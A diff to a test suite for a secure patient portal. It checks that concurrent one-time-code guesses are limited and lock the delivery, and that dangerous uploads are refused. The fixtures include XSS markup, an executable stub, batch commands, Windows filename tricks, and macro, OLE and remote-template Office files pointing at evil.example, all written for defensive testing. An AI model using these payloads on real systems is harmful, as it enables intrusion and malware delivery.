@@ -8,6 +8,7 @@ import { createLogger } from '../../src/log/index.ts';
 import { startTestServer, type TestServer } from '../support/app.ts';
 import { describeEachDb } from '../support/db.ts';
 import { type MailWorld, startMailWorld } from '../support/mail-world.ts';
+import { docx, MAIN_TYPES, xlsx, zip } from '../support/office.ts';
 import { settle, verifiedDomain } from '../support/sending.ts';
 
 // The portal under attack, over plain HTTP: forged and tampered links, forms from another site,
@@ -73,12 +74,16 @@ describeEachDb('secure portal under attack', (suite) => {
       {
         ...world.env(),
         SEALPOST_PUBLIC_URL: 'https://portal.sealpost.test',
-        SEALPOST_PORTAL_UPLOAD_MAX_BYTES: '4000',
+        SEALPOST_PORTAL_UPLOAD_MAX_BYTES: '20000',
+        // The concurrent guesses below come from one address: what they test is the portal's own
+        // count, not the per-address limit in front of it.
+        SEALPOST_RATE_LIMIT_PER_ADDRESS: '100000',
       },
       { roles: ['api', 'worker'], log },
     );
     org = await server.createOrg('Guarded Clinic');
     await verifiedDomain(server, world.dns, org.api_key, 'clinic.test');
+    world.addDomain('clinic.test', 'tls'); // where replies to the sender arrive
   });
   after(async () => {
     await server?.close();
@@ -269,6 +274,55 @@ describeEachDb('secure portal under attack', (suite) => {
     assert.doesNotMatch(expired.text, new RegExp(MARKER));
   });
 
+  test('guesses sent at once are judged in turn: five per code, and the tenth failure locks', async () => {
+    const { path, recipientId } = await portalMessage('g@notls.test');
+    const visitor = new Visitor(server.url);
+    const csrf = csrfOf((await visitor.fetch(path)).text);
+    const newCode = async () => {
+      const mailed = world.receiver('notls').messages.length;
+      const asked = await visitor.fetch(`${path}/code`, { method: 'POST', form: { csrf } });
+      assert.match(asked.headers.get('location')!, /sent=sent/);
+      const mail = await simpleParser((await world.waitForMessages('notls', mailed + 1))[mailed]!.raw);
+      return /\b(\d{6})\b/.exec(mail.text ?? '')![1]!;
+    };
+    const guess = (code: string) => visitor.fetch(`${path}/verify`, { method: 'POST', form: { csrf, code } });
+    /** 150 wrong guesses at once; the number of them told "not right" (judged and not locking). */
+    const burst = async (right: string) => {
+      const wrong = right === '000000' ? '111111' : '000000';
+      const answers = await Promise.all(Array.from({ length: 150 }, () => guess(wrong)));
+      return answers.filter((a) => a.text.includes('That code is not right')).length;
+    };
+    const state = async () =>
+      (
+        await server.app.db.query<{ failures: number; locked: boolean; tries: number[] }>(
+          `SELECT d.failed_attempts AS failures, d.locked_at IS NOT NULL AS locked,
+             (SELECT array_agg(attempts ORDER BY created_at) FROM portal_codes c
+              WHERE c.org_id = d.org_id AND c.recipient_id = d.recipient_id) AS tries
+           FROM portal_deliveries d WHERE d.org_id = $1 AND d.recipient_id = $2`,
+          [org.org_id, recipientId],
+        )
+      ).rows[0]!;
+
+    // Against a fresh code: five are judged, the rest find it spent.
+    const first = await newCode();
+    assert.equal(await burst(first), 5);
+    assert.deepEqual(await state(), { failures: 5, locked: false, tries: [5] });
+    assert.match((await guess(first)).text, /expired or was already used/);
+
+    // Against a second code: five more, the fifth of them (the tenth failure) locks, and nothing
+    // is judged after it.
+    await server.app.db.query(
+      `UPDATE portal_codes SET created_at = created_at - interval '2 minutes' WHERE org_id = $1 AND recipient_id = $2`,
+      [org.org_id, recipientId],
+    );
+    const second = await newCode();
+    assert.equal(await burst(second), 4);
+    assert.deepEqual(await state(), { failures: 10, locked: true, tries: [5, 5] });
+    const late = await guess(second);
+    assert.equal(late.status, 423);
+    assert.doesNotMatch(late.text, new RegExp(MARKER));
+  });
+
   test("a session opens only its own recipient's message, and ends when idle", async () => {
     const one = await portalMessage('one@notls.test');
     const two = await portalMessage('two@notls.test');
@@ -289,36 +343,186 @@ describeEachDb('secure portal under attack', (suite) => {
     assert.match(idle.text, /Your session ended/);
   });
 
-  test('uploads that could run, or are too large, are refused and nothing is sent', async () => {
+  test('uploads: only the types policy allows, judged from their bytes, under a name that says the same', async () => {
     const { path, messageId } = await portalMessage('u@notls.test');
     const { visitor } = await signIn(path, 'u@notls.test');
     const csrf = csrfOf((await visitor.fetch(path)).text);
-    const upload = (name: string, content: string | Buffer, type = 'application/octet-stream') => {
+    const post = (files: [name: string, content: string | Buffer, type?: string][]) => {
       const form = new FormData();
       form.append('csrf', csrf);
       form.append('text', 'see attached');
-      form.append('files', new Blob([content], { type }), name);
+      for (const [name, content, type = 'application/octet-stream'] of files)
+        form.append('files', new Blob([content], { type }), name);
       return visitor.fetch(`${path}/reply`, { method: 'POST', body: form });
     };
-    for (const [name, content, reason] of [
-      ['page.html', '<html><script>alert(1)</script></html>', /cannot be attached/],
-      ['card.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', /cannot be attached/],
-      ['setup.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), /cannot be attached/],
-      ['big.pdf', Buffer.alloc(5000, 1), /larger than/],
-    ] as const) {
-      const res = await upload(name, content);
-      assert.equal(res.status, 413, name);
-      assert.match(res.text, reason);
+    const replies = async () =>
+      (
+        await server.app.db.query('SELECT 1 FROM messages WHERE org_id = $1 AND reply_of = $2', [
+          org.org_id,
+          messageId,
+        ])
+      ).rows.length;
+
+    const page = '<html><body><script>alert(1)</script></body></html>';
+    const batch = '@echo off\r\nstart evil.exe\r\n';
+    const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n');
+    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
+    const jpeg = Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(32, 1)]);
+    const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+    const external = (type: string, target: string) =>
+      docx({ documentRels: [{ type, target, external: true }] });
+    // The reference hides "External" from a byte search; an XML parser reads it all the same.
+    const hiddenTemplate = docx({
+      parts: {
+        'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#x45;xternal"/></Relationships>`,
+      },
+    });
+    const name = /a file name cannot hold/;
+    const type = /only these types of file are accepted: \.pdf, \.jpg, \.jpeg, \.png/;
+    const mismatch = /what it holds is not what the end of its name says/;
+    const refused: [string, string | Buffer, RegExp, string?][] = [
+      // Names Windows stores as another name, or not as a file at all.
+      ['evil.bat.', batch, mismatch],
+      ['evil.cmd ', batch, mismatch],
+      ['evil.ps1::$DATA', 'Start-Process evil.exe', name],
+      ['CON.txt', 'hello', name],
+      ['invoice\u202efdp.exe', pdf, name],
+      // Macros, ActiveX, OLE objects and remote templates, as .docm, .xlsm, or dressed as .docx.
+      [
+        'form.docm',
+        docx({ main: MAIN_TYPES.docm, parts: { 'word/vbaProject.bin': Buffer.alloc(64, 1) } }),
+        type,
+      ],
+      [
+        'sums.xlsm',
+        xlsx({ main: MAIN_TYPES.xlsm, parts: { 'xl/vbaProject.bin': Buffer.alloc(64, 1) } }),
+        type,
+      ],
+      ['form.docx', docx({ parts: { 'word/vbaProject.bin': Buffer.alloc(64, 1) } }), type],
+      ['form.docx', docx({ parts: { 'word/activeX/activeX1.xml': '<ax:ocx/>' } }), type],
+      ['form.docx', docx({ parts: { 'word/embeddings/oleObject1.bin': Buffer.alloc(64, 1) } }), type],
+      ['form.docx', external(`${REL}/oleObject`, 'https://evil.example/follina.html!'), type],
+      ['form.docx', external(`${REL}/attachedTemplate`, 'https://evil.example/t.dotm'), type],
+      ['form.docx', hiddenTemplate, type],
+      ['form.docx', zip({ a: 'b' }, { prefix: docx() }), type],
+      // Types patients do not send.
+      [
+        'notes.one',
+        Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64)]),
+        type,
+      ],
+      ['help.chm', Buffer.concat([Buffer.from('ITSF'), Buffer.from([3, 0, 0, 0]), Buffer.alloc(88)]), type],
+      ['disk.vhd', Buffer.concat([Buffer.alloc(512), Buffer.from('conectix'), Buffer.alloc(64)]), type],
+      ['site.url', '[InternetShortcut]\r\nURL=file://evil.example/share/evil.exe\r\n', mismatch],
+      ['page.mht', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`, type],
+      ['records.zip', zip({ 'evil.exe': 'MZ' }), type],
+      ['setup.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), type],
+      ['card.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', type],
+      // Markup as text: declared as HTML, in UTF-16 (with and without a BOM), after padding.
+      ['page.txt', page, type, 'text/html'],
+      ['wide.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page, 'utf16le')]), type],
+      ['wide.txt', Buffer.from(page, 'utf16le'), type],
+      ['padded.txt', `${'Dose log, all well. '.repeat(60)}\n${page}`, type],
+      ['photo.jpg', png, mismatch],
+    ];
+    for (const [filename, content, reason, declared] of refused) {
+      const res = await post([[filename, content, declared]]);
+      assert.equal(res.status, 415, filename);
+      assert.match(res.text, reason, filename);
     }
+    assert.match((await post([['big.pdf', Buffer.alloc(25_000, 1)]])).text, /larger than/);
+    // One file refused refuses the reply: nothing of it is sent.
+    assert.equal(
+      (
+        await post([
+          ['scan.pdf', pdf],
+          ['page.txt', page],
+        ])
+      ).status,
+      415,
+    );
+    assert.equal(await replies(), 0, 'no reply was submitted');
+    await server.app.flushAudit();
+    const audited = await server.app.db.query<{ reason: string; details: string }>(
+      `SELECT details->>'reason' AS reason, details::text FROM audit_events
+       WHERE org_id = $1 AND action = 'portal.upload_refused'`,
+      [org.org_id],
+    );
+    assert.deepEqual([...new Set(audited.rows.map((r) => r.reason))].sort(), ['mismatch', 'name', 'type']);
+    assert.ok(!audited.rows.some((r) => r.details.includes('evil')), 'no file name on the record');
+
+    // In the reader's language.
+    await visitor.fetch(`${path}?lang=es`);
+    assert.match((await post([['page.txt', page]])).text, /solo se aceptan estos tipos de archivo/);
+    await visitor.fetch(`${path}?lang=en`);
+
+    // What patients send goes through, named as written (less what Windows drops), typed by its bytes.
+    const before = world.receiver('tls').messages.length;
+    const sent = await post([
+      ['scan.pdf', pdf, 'text/html'],
+      ['photo.JPG. ', jpeg],
+      ['notes.txt', 'Café: 5 mg ≤ 8:00 <dana@example.org>\n'],
+      ['letter.docx', docx({ parts: { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': xlsx() } })],
+      ['doses.xlsx', xlsx()],
+    ]);
+    assert.equal(sent.status, 303, sent.text);
+    const reply = await simpleParser((await world.waitForMessages('tls', before + 1))[before]!.raw);
+    assert.deepEqual(
+      reply.attachments.map((a) => [a.filename, a.contentType]),
+      [
+        ['scan.pdf', 'application/pdf'],
+        ['photo.JPG', 'image/jpeg'],
+        ['notes.txt', 'text/plain'],
+        ['letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+        ['doses.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
+      ],
+    );
+
     const noCsrf = new FormData();
     noCsrf.append('text', 'hello');
     const forged = await visitor.fetch(`${path}/reply`, { method: 'POST', body: noCsrf });
     assert.equal(forged.status, 403);
-    const { rows } = await server.app.db.query('SELECT 1 FROM messages WHERE org_id = $1 AND reply_of = $2', [
-      org.org_id,
-      messageId,
+    assert.equal(await replies(), 1);
+  });
+
+  test('the types a recipient may attach are organisation policy', async () => {
+    const policy = await api('GET', '/v1/policies/secureline');
+    assert.deepEqual(policy.body.portal_upload_types, [
+      'pdf',
+      'jpeg',
+      'png',
+      'gif',
+      'webp',
+      'heic',
+      'tiff',
+      'text',
+      'docx',
+      'xlsx',
+      'pptx',
     ]);
-    assert.equal(rows.length, 0, 'no reply was submitted');
+    for (const bad of [['exe'], ['pdf', 'pdf'], [null]])
+      assert.equal((await api('PATCH', '/v1/policies/secureline', { portal_upload_types: bad })).status, 400);
+    try {
+      const narrowed = await api('PATCH', '/v1/policies/secureline', { portal_upload_types: ['pdf'] });
+      assert.equal(narrowed.status, 200, narrowed.text);
+      const { path } = await portalMessage('p@notls.test');
+      const { visitor } = await signIn(path, 'p@notls.test');
+      const message = await visitor.fetch(path);
+      assert.match(message.text, /of these types: \.pdf\./);
+      assert.match(message.text, /accept="\.pdf"/);
+      const form = new FormData();
+      form.append('csrf', csrfOf(message.text));
+      form.append('text', 'see attached');
+      form.append('files', new Blob([Buffer.from('a note')]), 'note.txt');
+      const res = await visitor.fetch(`${path}/reply`, { method: 'POST', body: form });
+      assert.equal(res.status, 415);
+      assert.match(res.text, /note\.txt cannot be attached: only these types of file are accepted: \.pdf\./);
+
+      assert.equal((await api('PATCH', '/v1/policies/secureline', { portal_upload_types: [] })).status, 200);
+      assert.doesNotMatch((await visitor.fetch(path)).text, /type="file"/);
+    } finally {
+      await api('PATCH', '/v1/policies/secureline', { portal_upload_types: policy.body.portal_upload_types });
+    }
   });
 
   test('replies closed by the sender: no form, and a forged post sends nothing', async () => {
